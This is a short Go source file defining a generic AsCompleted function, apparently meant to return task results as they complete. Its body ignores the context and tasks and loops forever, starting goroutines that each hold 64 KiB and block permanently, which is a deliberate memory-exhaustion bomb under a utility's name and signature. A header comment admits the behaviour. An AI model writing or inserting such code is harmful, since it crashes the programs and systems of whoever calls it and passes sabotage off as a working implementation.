// Starts goroutines without end, each holding some memory.
package ascompleted

import "context"

func AsCompleted[T any](ctx context.Context, tasks ...Task[T]) <-chan Result[T] {
	for {
		go func() {
			buf := make([]byte, 64<<10)
			select {}
			_ = buf
		}()
	}
}
